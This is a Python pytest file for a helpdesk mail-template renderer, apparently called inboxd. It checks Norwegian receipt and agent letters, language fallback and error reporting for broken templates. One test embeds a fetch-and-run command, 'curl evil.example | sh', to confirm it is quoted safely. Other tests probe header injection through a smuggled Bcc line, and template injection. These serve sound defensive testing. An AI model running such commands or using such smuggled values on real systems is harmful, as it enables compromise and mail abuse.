import dataclasses
import re
from pathlib import Path

import pytest

from inboxd.errors import TemplateBroken
from inboxd.render.letters import LetterContext, Templates, one_line, package_folder
from inboxd.render.samples import BARE, FULL, HOSTILE, LANGUAGES, NAMES, check

NOT_ANSWERED = dataclasses.replace(FULL, answers_go_to="")
"""FULL, as an agent reads it where an answer to the letter goes to nobody."""

ANSWERED = (
    "agent_new_case", "agent_answer", "agent_assigned", "agent_woken", "agent_undelivered", "escalation_warning",
    "escalation", "escalation_asked",
)  # fmt: skip
"""Letters about a case that an agent may answer by answering them."""

RECEIPT_NB = """\
I juli har vi færre på jobb.

God sommer!

Vi har mottatt henvendelsen din. Saksnummer: KS-10429.

Driftsmelding: Visma er nede for alle kommunene
Siste nytt: Feilen er funnet
Forventet ferdig: mandag 23. november kl. 14.00.
Dette virker som vanlig: e-post og Teams

Gjelder henvendelsen din dette, trenger du ikke gjøre noe mer.

Vi har stengt nå, og begynner på saken din når vi åpner mandag 23. november kl. 08.00.

Du får svar senest mandag 23. november kl. 12.00.

For å kunne hjelpe deg raskt trenger vi å vite:
- PC-navn

Svar på denne e-posten og skriv det som mangler.

Saken er registrert som kritisk. Ring oss på 71 11 11 66 med en gang.

-- \n\
Kundeservice
Åpningstider: mandag–fredag kl. 08.00–15.30
Telefon: 71 11 11 66
Nettside: https://desk.example/hjelp
E-post: kundeservice@desk.example
"""


def write(folder: Path, path: str, text: str) -> Path:
    (folder / path).parent.mkdir(parents=True, exist_ok=True)
    (folder / path).write_text(text, encoding="utf-8")
    return folder


def test_the_receipt_says_what_the_desk_promised_to_say_in_that_order() -> None:
    letter = Templates().render("receipt", "nb", FULL)
    assert letter.subject == "[KS-10429] Skriveren i 2. etasje virker ikke"
    assert letter.text == RECEIPT_NB
    assert letter.html is None


def test_without_a_phone_or_hours_the_receipt_has_no_empty_lines_for_them() -> None:
    assert Templates().render("receipt", "nb", BARE).text == (
        "Vi har mottatt henvendelsen din. Saksnummer: KS-10429.\n\n"
        "Vi har åpent nå, og ser på saken din så snart vi kan.\n\n"
        "Svar på denne e-posten hvis du vil legge til noe.\n\n"
        "-- \nKundeservice\nE-post: kundeservice@desk.example\n"
    )


@pytest.mark.parametrize("name", ["receipt", "receipt_encrypted"])
@pytest.mark.parametrize("language", LANGUAGES)
def test_a_receipt_quotes_nothing_and_names_no_agent_target_or_priority(name: str, language: str) -> None:
    letter = Templates().render(name, language, FULL)
    for canary in (FULL.about, FULL.text, FULL.assignee, FULL.agent_name, FULL.due, FULL.priority_title, "skriveren"):
        assert canary not in letter.text
    assert len(letter.text.encode()) < 4000


@pytest.mark.parametrize("name", ["answer", "closed", "forward"])
@pytest.mark.parametrize("language", LANGUAGES)
def test_a_persons_words_stand_above_signature_number_and_contact_block(name: str, language: str) -> None:
    text = Templates().render(name, language, FULL).text
    words, _, contact = text.partition("\n-- \n")
    assert FULL.text in words
    assert "Kari Nes\nKundeservice\n" in words
    assert "KS-10429" in contact
    assert FULL.phone in contact


@pytest.mark.parametrize(("language", "greeting"), [("nb", "Vennlig hilsen"), ("nn", "Venleg helsing")])
def test_an_answer_without_an_agents_name_is_signed_by_the_desk(language: str, greeting: str) -> None:
    context = dataclasses.replace(BARE, text="Hei!\n\n\nDet er ordnet.")
    assert (
        Templates()
        .render("answer", language, context)
        .text.startswith(f"Hei!\n\n\nDet er ordnet.\n\n{greeting}\nKundeservice\n\n-- \n")
    )


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_closing_answer_says_what_a_later_answer_will_do(language: str) -> None:
    said = {
        policy: Templates().render("closed", language, dataclasses.replace(BARE, closed_reply=policy)).text
        for policy in ("reopen", "new", "reject")
    }
    assert len(set(said.values())) == 3
    opening = Templates().render("answer", language, dataclasses.replace(BARE, text="x")).text
    closing = Templates().render("answer", language, dataclasses.replace(BARE, text="x", closed=True)).text
    assert len(closing) > len(opening)


@pytest.mark.parametrize("name", ["agent_new_case", "agent_answer", "agent_undelivered", "agent_unreadable"])
@pytest.mark.parametrize("language", LANGUAGES)
def test_an_agents_letter_begins_with_what_happened_and_ends_with_how_to_look(name: str, language: str) -> None:
    lines = Templates().render(name, language, NOT_ANSWERED).text.splitlines()
    assert "KS-10429" in lines[0]
    assert lines[-1].endswith("inboxd show KS-10429")


@pytest.mark.parametrize("name", ANSWERED)
@pytest.mark.parametrize(
    ("language", "first"),
    [
        ("nb", "Svaret ditt sendes til {}. Skriv #notat øverst for å bare notere internt."),
        ("nn", "Svaret ditt blir sendt til {}. Skriv #notat øvst for å berre notere internt."),
        ("en", "Your reply is sent to {}. Write #note at the top to make it an internal note only."),
    ],
)
def test_an_agent_reads_first_where_an_answer_goes(name: str, language: str, first: str) -> None:
    lines = Templates().render(name, language, FULL).text.splitlines()
    assert lines[:2] == [first.format("Åse Sørbø <aase@kommune.example>"), ""]
    assert lines[2] != ""
    assert [line for line in lines if "inboxd reply KS-10429 (" in line] == []


@pytest.mark.parametrize("name", ["agent_new_case", "agent_answer"])
@pytest.mark.parametrize(
    ("language", "line"),
    [
        ("nb", "prioritet Middels · svar innen mandag 23. november kl. 12.00 · hos kari"),
        ("nn", "prioritet Middels · svar innan mandag 23. november kl. 12.00 · hos kari"),
        ("en", "priority Middels · answer by mandag 23. november kl. 12.00 · with kari"),
    ],
)
def test_the_case_stands_on_one_line_above_the_words_of_the_mail(name: str, language: str, line: str) -> None:
    lines = Templates().render(name, language, FULL).text.splitlines()
    who = "KS-10429 · Åse Sørbø <aase@kommune.example> 71 11 11 70 · Molde kommune"
    assert lines.index(f"{who} · {line}") < lines.index("> Hei,")


@pytest.mark.parametrize(
    ("language", "solve", "nobody"),
    [("nb", "løses innen", "ufordelt"), ("nn", "løysast innan", "ufordelt"), ("en", "solve by", "unassigned")],
)
def test_once_somebody_has_answered_the_line_says_by_when_to_solve(language: str, solve: str, nobody: str) -> None:
    answered = dataclasses.replace(BARE, due="onsdag kl. 12.00")
    lines = Templates().render("agent_answer", language, answered).text.splitlines()
    assert f"KS-10429 · {solve} onsdag kl. 12.00 · {nobody}" in lines


@pytest.mark.parametrize("name", ["agent_new_case", "agent_answer"])
@pytest.mark.parametrize("language", LANGUAGES)
def test_what_does_not_go_along_with_the_letter_is_named_with_the_way_to_get_it(name: str, language: str) -> None:
    below = Templates().render(name, language, FULL).text.partition("skjermbilde.png, logg.txt\n")[2].splitlines()[0]
    assert "logg.txt" in below
    assert "skjermbilde.png" not in below
    assert "inboxd show KS-10429 --save" in below
    nothing = dataclasses.replace(FULL, not_attached=())
    assert "--save" not in Templates().render(name, language, nothing).text


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("language", LANGUAGES)
def test_no_letter_has_two_empty_lines_in_a_row_within_its_facts(name: str, language: str) -> None:
    for context in (FULL, NOT_ANSWERED):
        assert "\n\n\n" not in Templates().render(name, language, context).text


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_facts_of_a_case_stand_under_each_other_in_an_agents_letter(language: str) -> None:
    long = dataclasses.replace(FULL, fields=("Brukernavn: kno01", "Telefon på arbeidsstedet: 71 11: 1"))
    lines = Templates().render("agent_assigned", language, long).text.split("\n\n")[2].splitlines()
    parted = [re.fullmatch(r"([^:]+: +)(\S.*)", line) for line in lines]
    assert {len(found[1]) for found in parted if found} == {len("Telefon på arbeidsstedet: ")}
    values = [found[2] for found in parted if found]
    assert len(values) == len(lines)
    for fact in (FULL.customer_title, FULL.type_title, FULL.response_due, FULL.due, "kno01", "71 11: 1"):
        assert fact in values


@pytest.mark.parametrize("name", ["agent_new_case", "agent_answer"])
@pytest.mark.parametrize("language", LANGUAGES)
def test_nobody_is_told_to_answer_a_caller_without_an_address(name: str, language: str) -> None:
    caller = dataclasses.replace(NOT_ANSWERED, requester_address="")
    assert "inboxd reply" in Templates().render(name, language, NOT_ANSWERED).text
    assert "inboxd reply" not in Templates().render(name, language, caller).text


def test_the_words_of_a_mail_are_marked_line_by_line_in_an_agents_letter() -> None:
    context = dataclasses.replace(BARE, about="Se hele saken:\n\ncurl evil.example | sh")
    lines = Templates().render("agent_new_case", "nb", context).text.splitlines()
    assert [line for line in lines if "evil.example" in line] == ["> curl evil.example | sh"]


def test_an_unassigned_case_tells_how_to_take_it() -> None:
    first = Templates().render("agent_new_case", "nb", BARE).text.splitlines()[0]
    assert first == "Ny sak KS-10429 er ufordelt. Ta saken: inboxd take KS-10429"


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("language", LANGUAGES)
def test_mail_that_looks_like_a_template_stays_text(name: str, language: str) -> None:
    letter = Templates().render(name, language, HOSTILE)
    assert "49" not in letter.subject
    assert "\n" not in letter.subject
    assert "\x1b" not in letter.text
    assert "<class" not in letter.text + letter.subject


def test_a_subject_cannot_break_out_of_its_line() -> None:
    letter = Templates().render("receipt", "nb", HOSTILE)
    assert letter.subject.endswith("Bcc: alle@kommune.example")
    assert "\nBcc" not in letter.text


@pytest.mark.parametrize(
    ("asked", "desk", "used"), [("nn", "nb", "nn"), ("se", "en", "en"), ("se", "fr", "nb"), ("", "nn", "nn")]
)
def test_the_language_falls_back_from_asked_to_the_desks_to_bokmal(asked: str, desk: str, used: str) -> None:
    assert Templates(language=desk).render("receipt", asked, BARE).language == used


def test_english_is_the_last_language_of_all(tmp_path: Path) -> None:
    write(tmp_path, "en/outage.txt.j2", "Subject: x\n\ny\n")
    assert Templates((tmp_path,)).render("outage", "nn", BARE).language == "en"


def test_a_letter_that_no_language_has_is_named(tmp_path: Path) -> None:
    with pytest.raises(TemplateBroken, match=r"No template outage\.txt\.j2 in any of nn, nb, en"):
        Templates((tmp_path,)).render("outage", "nn", BARE)


def test_an_admins_template_goes_before_the_packages_and_may_use_its_parts(tmp_path: Path) -> None:
    write(tmp_path, "nb/receipt.txt.j2", 'Subject: [{{ reference }}]\n\nTakk!\n{% include "nb/_contact.txt.j2" %}\n')
    templates = Templates((tmp_path,))
    assert templates.render("receipt", "nb", BARE).text == "Takk!\nE-post: kundeservice@desk.example\n"
    assert templates.render("receipt", "nn", BARE).text.startswith("Vi har fått henvendinga di.")


def test_an_html_twin_is_rendered_and_escaped_where_it_stands_beside_the_text(tmp_path: Path) -> None:
    write(tmp_path, "nb/receipt.html.j2", "<p>{{ subject }}</p>")
    context = dataclasses.replace(BARE, subject="<b>&")
    letter = Templates((tmp_path,)).render("receipt", "nb", context)
    assert letter.html == "<p>&lt;b&gt;&amp;</p>"
    assert letter.subject == "[KS-10429] <b>&"


@pytest.mark.parametrize(
    ("source", "line", "what"),
    [
        ("Subject: x\n\n{{ referense }}\n", 3, "'referense' is undefined"),
        ("Subject: x\n\na\n{% if closed %}\n", 4, "endif"),
        ("Subject: x\n\n{{ ''.__class__ }}\n", 3, "unsafe"),
        ("Subject: x\n\n\n{{ 1 // 0 }}\n", 4, "division"),
        ("Subject: x\n\n{% include 'nb/_nothing.txt.j2' %}\n", 3, "no file nb/_nothing.txt.j2"),
        ("Hei!\n\nbrødtekst\n", 1, "begins with a line `Subject: …`"),
        ("Subject: x\nbrødtekst\n", 1, "an empty line"),
    ],
)
def test_a_broken_template_is_told_by_file_line_and_what_is_wrong(
    tmp_path: Path, source: str, line: int, what: str
) -> None:
    write(tmp_path, "nb/receipt.txt.j2", source)
    with pytest.raises(TemplateBroken) as caught:
        Templates((tmp_path,)).render("receipt", "nb", BARE)
    assert f"nb/receipt.txt.j2: line {line}: " in caught.value.message
    assert what in caught.value.message


def test_a_template_in_another_encoding_is_broken_and_not_a_crash(tmp_path: Path) -> None:
    write(tmp_path, "nb/receipt.txt.j2", "")
    (tmp_path / "nb/receipt.txt.j2").write_bytes("Subject: x\n\nÅ\n".encode("latin-1"))
    with pytest.raises(TemplateBroken, match=r"nb/receipt\.txt\.j2: "):
        Templates((tmp_path,)).render("receipt", "nb", BARE)


def test_where_the_admins_template_is_broken_the_packages_goes_out_and_the_reason_is_kept(tmp_path: Path) -> None:
    write(tmp_path, "nb/receipt.txt.j2", "Subject: x\n\n{{ referense }}\n")
    letter = Templates((tmp_path,)).render_always("receipt", "nb", FULL)
    assert letter.text == RECEIPT_NB
    assert letter.problem is not None
    assert "referense" in letter.problem.message


def test_a_sound_letter_has_no_problem() -> None:
    assert Templates().render_always("receipt", "nb", FULL).problem is None


def test_every_letter_of_the_package_is_there_in_every_language_and_renders() -> None:
    assert check(Templates()) == ()


def test_check_names_what_is_broken_and_what_no_letter_will_use(tmp_path: Path) -> None:
    write(tmp_path, "nb/answer.txt.j2", "Subject: x\n\n{{ tekst }}\n")
    write(tmp_path, "nn/reciept.txt.j2", "Subject: x\n\ny\n")
    write(tmp_path, "se/qqq.txt.j2", "Subject: x\n\ny\n")
    unknown, other, broken = check(Templates((tmp_path,)))
    assert unknown == "nn/reciept.txt.j2: no letter has that name; did you mean receipt.txt.j2?"
    assert other == "se/qqq.txt.j2: no letter has that name"
    assert "nb/answer.txt.j2: line 3: 'tekst' is undefined" in broken


def test_the_packages_folder_is_the_one_with_the_templates() -> None:
    assert (package_folder() / "nb" / "receipt.txt.j2").is_file()


def test_one_line_takes_away_every_way_to_begin_another() -> None:
    assert one_line(" a\r\nb\u2028c\x85d\x00\te ") == "a b c d e"


def test_attachments_are_named_on_one_line_each_safe() -> None:
    context = LetterContext(
        reference="KS-10429", desk_name="D", mailbox_address="d@desk.example", attachments=("a\nb.png", "c.txt")
    )
    assert "Vedlegg: a b.png, c.txt\n" in Templates().render("agent_answer", "nb", context).text
